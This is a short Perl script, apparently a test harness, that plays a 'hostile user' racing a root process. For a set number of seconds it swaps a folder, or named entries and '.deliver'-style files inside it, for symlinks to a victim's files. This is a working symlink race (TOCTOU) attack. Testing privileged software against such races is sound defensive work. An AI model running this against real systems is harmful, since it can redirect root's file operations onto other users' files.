# A hostile user of a machine: exchanges what lies in a folder of theirs for links to what they want root to touch, as fast
# as they can, for some seconds at most. Called as: hostile.pl inside|folder FOLDER VICTIM SECONDS NAME...
use strict;
use warnings;

my ($mode, $folder, $victim, $seconds, @names) = @ARGV;
my %wanted = map { $_ => 1 } @names;
my $end = time + $seconds;
my $count = 0;

while (time < $end) {
  $mode eq 'folder' ? exchange_folder() : exchange_entries();
}

# The folder itself becomes a link to that of the victim, and is back a moment later.
sub exchange_folder {
  rename $folder, "$folder.real";
  symlink $victim, $folder;
  unlink $folder;
  rename "$folder.real", $folder;
}

# What root is about to use, by its name or by the looks of it, becomes a link to a file of the victim, or goes away.
sub exchange_entries {
  opendir my $handle, $folder or return;
  for my $entry (readdir($handle), @names) {
    next unless $wanted{$entry} || $entry =~ /^\.deliver|~$/;
    next if -l "$folder/$entry";
    $count++;
    rename "$folder/$entry", "$folder/moved" . $count % 12;
    symlink "$victim/$names[0]", "$folder/$entry";
    unlink "$folder/$entry" if $count % 2;
  }
  closedir $handle;
  if ($count % 7 == 0) { unlink "$folder/$_" for @names }
}
